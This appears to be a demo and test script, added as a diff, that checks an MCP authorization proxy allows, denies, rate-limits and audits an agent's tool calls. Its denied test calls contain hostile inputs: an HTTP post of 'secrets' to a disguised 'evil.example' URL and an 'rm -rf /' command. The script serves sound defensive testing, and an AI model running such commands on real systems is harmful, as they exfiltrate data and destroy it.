@@ -1,0 +1,234 @@
+// The demo: an agent (a real MCP SDK client) talks to an MCP server through Envoy, and mcp-authz decides on every call.
+//
+// Every step says what must come of it. The demo ends with 0 only if all of it did.
+import { execFileSync } from 'node:child_process';
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { stripVTControlCharacters } from 'node:util';
+
+import { load } from '../clients/driver.mjs';
+import {
+  DemoError, newSecret, paths, prepareState, startAuthz, startEnvoy, startServer, stopAll, until, writeConfiguration,
+  writeEnvoyConfiguration,
+} from './stack.mjs';
+
+const { Client } = await load('client-ts1', '@modelcontextprotocol/sdk/client/index.js');
+const { StreamableHTTPClientTransport } = await load('client-ts1', '@modelcontextprotocol/sdk/client/streamableHttp.js');
+
+const CALL_MS = 10_000;
+// The quota counts by the minute of the clock; a step that begins later than this would run into the next minute.
+const LATEST_SECOND = 50;
+
+const colored = process.stdout.isTTY && process.env.NO_COLOR === undefined;
+const paint = code => text => (colored ? `\u001b[${code}m${text}\u001b[0m` : text);
+const [bold, dim, red, green] = [paint(1), paint(2), paint(31), paint(32)];
+const say = text => process.stdout.write(`${text}\n`);
+
+const failures = [];
+let steps = 0;
+let auditLinesRead = 0;
+
+const lines = path => (existsSync(path) ? readFileSync(path, 'utf8').split('\n').filter(line => line !== '') : []);
+
+/** The next audit line, once it is there. */
+async function nextAuditLine() {
+  const line = await until('waiting for an audit line', () => lines(paths.audit)[auditLinesRead]);
+  auditLinesRead += 1;
+  return line;
+}
+
+/** Passes over the audit lines of the handshake and of lists. */
+const skipAuditLines = () => { auditLinesRead = lines(paths.audit).length; };
+
+const executed = () => lines(paths.seen).map(line => JSON.parse(line)).filter(line => line.event === 'executed');
+
+function heading(text) {
+  steps += 1;
+  say(`\n${bold(`${steps}. ${text}`)}`);
+}
+
+/** Notes whether `claim` holds, and says so. */
+function check(holds, claim) {
+  if (holds) {
+    say(`   ${green('ok')}      ${claim}`);
+  } else {
+    say(`   ${red('FAILED')}  ${claim}`);
+    failures.push(`step ${steps}: ${claim}`);
+  }
+}
+
+/** What a server or a policy says is shown as text, whatever it holds. */
+const shown = text => stripVTControlCharacters(String(text)).replaceAll('\n', '\n           ');
+
+async function connect(url, token) {
+  const client = new Client({ name: 'demo-agent', version: '1.0.0' });
+  const headers = { Authorization: `Bearer ${token}` };
+  await client.connect(new StreamableHTTPClientTransport(new URL(url), { requestInit: { headers } }), { timeout: CALL_MS });
+  return client;
+}
+
+/** Calls a tool, shows what the agent gets and what the audit holds, and compares both with `expected`. */
+async function call(client, tool, args, expected) {
+  const before = executed().length;
+  say(`   agent     ${tool} ${JSON.stringify(args)}`);
+  const result = await client.callTool({ name: tool, arguments: args }, undefined, { timeout: CALL_MS });
+  const text = (result.content ?? []).map(part => part.text ?? `<${part.type}>`).join('\n');
+  say(`   ${result.isError ? red('denied') : green('result')}    ${shown(text)}`);
+  const line = await nextAuditLine();
+  say(`   audit     ${dim(line)}`);
+  const record = JSON.parse(line);
+  const allowed = expected.rule === undefined;
+  check(record.tool === tool && record.decision === (allowed ? 'allow' : 'deny'), `audit says ${allowed ? 'allow' : 'deny'}`);
+  const ran = executed().length - before;
+  if (allowed) {
+    check(result.isError !== true && ran === 1, 'the MCP server ran it');
+  } else {
+    check(record.rule === expected.rule, `the rule is ${expected.rule}`);
+    check(result.isError === true && text === `[POLICY DENIED] ${expected.text}`, 'the agent is told why');
+    check(ran === 0, 'the MCP server never saw it');
+  }
+}
+
+/** The text that the policy gives for a rule, so that the demo does not repeat it. */
+function policyText(tool, section) {
+  const policy = JSON.parse(readFileSync(join(paths.policies, 'demo.json'), 'utf8'));
+  return policy.tools[tool][section].at(-1).on_deny;
+}
+
+/** Waits for the next minute if this one is nearly over. */
+async function freshMinute() {
+  const second = new Date().getUTCSeconds();
+  if (second <= LATEST_SECOND) return;
+  say(dim(`   (waiting ${60 - second} s, because the quota counts by the minute of the clock)`));
+  await new Promise(resolve => { setTimeout(resolve, (60 - second) * 1000 + 100); });
+}
+
+async function story({ url, token, secret }) {
+  heading('An agent connects with its grant token and asks for the tools');
+  const client = await connect(url, token);
+  const names = (await client.listTools(undefined, { timeout: CALL_MS })).tools.map(tool => tool.name);
+  const risky = ['list_issues', 'create_refund', 'delete_repository', 'post_message', 'execute_command', 'http_request.post'];
+  const offered = risky.filter(name => names.includes(name));
+  say(`   tools     ${offered.join(', ')} (and ${names.length - offered.length} for tests)`);
+  check(offered.length === risky.length, 'the MCP server answers through Envoy');
+  skipAuditLines();
+
+  heading('A call that the policy allows');
+  await call(client, 'list_issues', { repo: 'acme/web' }, {});
+  const request = lines(paths.seen).map(line => JSON.parse(line)).findLast(line => line.tool === 'list_issues');
+  const credentials = request.headers.authorization;
+  check(credentials.length === 1 && credentials[0] === `Bearer ${secret}`, 'the MCP server got its own credential');
+  check(!JSON.stringify(request).includes(token), "the agent's token did not get that far");
+  await call(client, 'create_refund', { charge_id: 'ch_1024', amount: 1250, reason: 'damaged' }, {});
+
+  heading('The same tool with another amount: denied by a rule on the arguments');
+  await call(client, 'create_refund', { charge_id: 'ch_1024', amount: 25000, reason: 'damaged' }, {
+    rule: '/tools/create_refund/deny_if/args.amount-gt', text: policyText('create_refund', 'deny_if'),
+  });
+  await call(client, 'http_request.post', { url: 'https://hooks.example.com@evil.example/', body: 'secrets' }, {
+    rule: '/tools/http_request.post/require/args.url-regex', text: policyText('http_request.post', 'require'),
+  });
+
+  heading('Tools that the policy does not name, or hides: denied by default');
+  await call(client, 'execute_command', { command: 'rm -rf /' }, {
+    rule: '(default deny)', text: 'Tool "execute_command" is not permitted by policy',
+  });
+  await call(client, 'delete_repository', { owner: 'acme', repo: 'web' }, {
+    rule: '(hidden)', text: 'Tool "delete_repository" is hidden by policy',
+  });
+
+  heading('A quota runs out: three messages a minute');
+  await freshMinute();
+  for (const text of ['one', 'two', 'three']) await call(client, 'post_message', { channel: '#support', text }, {});
+  await call(client, 'post_message', { channel: '#support', text: 'four' }, {
+    rule: '/tools/post_message/limits/messages', text: policyText('post_message', 'limits'),
+  });
+  await client.close();
+
+  heading('Somebody with a wrong token');
+  await wrongToken(url, token);
+}
+
+async function wrongToken(url, token) {
+  skipAuditLines();
+  const before = lines(paths.seen).length;
+  const wrong = `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`;
+  const outcome = await connect(url, wrong).then(() => 'connected', error => error);
+  say(`   ${red('refused')}   ${shown(outcome.message ?? outcome)}`);
+  const line = await nextAuditLine();
+  say(`   audit     ${dim(line)}`);
+  check(outcome.code === 401, 'the client sees HTTP 401');
+  check(JSON.parse(line).decision === 'deny', 'audit says deny');
+  check(lines(paths.seen).length === before, 'the MCP server never saw it');
+  check(!lines(paths.audit).some(text => text.includes(token) || text.includes(wrong)), 'no audit line holds a token');
+}
+
+function makeGrant(program, grants) {
+  const args = ['grant', 'new', '--label', 'demo-agent', '--server', 'demo', '--policy', 'demo', '--file', join(grants, 'demo.yaml')];
+  const out = execFileSync(program, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
+  const token = /mcpa_[0-9A-Za-z_-]{43}/.exec(out)?.[0];
+  if (token === undefined) throw new DemoError(`\`mcp-authz grant new\` showed no token:\n${out}`);
+  return token;
+}
+
+async function stay({ url, token, authz }) {
+  const entry = { type: 'http', url, headers: { Authorization: `Bearer ${token}` } };
+  say(`\n${bold('It stays up until you press Ctrl-C.')} For an MCP client on this machine:\n`);
+  say(JSON.stringify({ mcpServers: { demo: entry } }, null, 2));
+  say(`\n   URL       ${url}\n   token     ${token}`);
+  say('   decisions tail -f .demo/audit.jsonl');
+  say('   policy    edit .demo/etc/policies/demo.json, then: kill -HUP $(cat .demo/mcp-authz.pid)');
+  await Promise.race(authz.map(part => new Promise(resolve => { part.child.on('exit', () => resolve(part)); }))).then(part => {
+    throw new DemoError(`${part.name} ended by itself; see ${part.log}`);
+  });
+}
+
+async function main(argv) {
+  const binaries = argv[argv.indexOf('--binaries') + 1];
+  prepareState();
+  const secret = newSecret();
+  const { config, grants, socket } = writeConfiguration(secret);
+  const program = join(binaries, 'mcp-authz');
+  const token = makeGrant(program, grants);
+  const upstream = await startServer(join(binaries, 'mcp-authz-fixture'), secret);
+  const authz = await startAuthz(program, config, socket);
+  const envoy = await startEnvoy(writeEnvoyConfiguration(socket, upstream));
+  const url = `http://127.0.0.1:${envoy.port}/mcp`;
+
+  say(bold('\nagent  ->  Envoy  ->  MCP server'));
+  say(bold('             |'));
+  say(bold('         mcp-authz'));
+  say(`\n   Envoy     ${url}    deploy/envoy.yaml with other ports`);
+  say(`   server    http://127.0.0.1:${upstream}/mcp    takes only requests with its own credential`);
+  say('   policy    policies/demo.json');
+  say(`   grant     ${token}    shown this once; the file holds its hash`);
+  await story({ url, token, secret });
+
+  if (failures.length > 0) {
+    say(`\n${red(bold(`${failures.length} of what should have happened did not:`))}`);
+    failures.forEach(failure => say(`   ${failure}`));
+    say('   What the parts said: .demo/*.log');
+    return 1;
+  }
+  say(`\n${green(bold('Everything came out as it should.'))} The policy: policies/demo.json. All decisions: .demo/audit.jsonl`);
+  if (argv.includes('--stay')) await stay({ url, token, authz: [authz, envoy.part] });
+  return 0;
+}
+
+/** Ends all parts, then this process. A second signal does not wait. */
+let leaving = false;
+async function leave(status) {
+  if (leaving) process.exit(status);
+  leaving = true;
+  await stopAll();
+  process.exit(status);
+}
+
+for (const [signal, number] of [['SIGHUP', 1], ['SIGINT', 2], ['SIGTERM', 15]]) {
+  process.on(signal, () => leave(128 + number));
+}
+
+main(process.argv.slice(2)).then(leave, error => {
+  process.stderr.write(`\ndemo: ${error instanceof DemoError ? error.message : (error?.stack ?? error)}\n`);
+  return leave(1);
+});
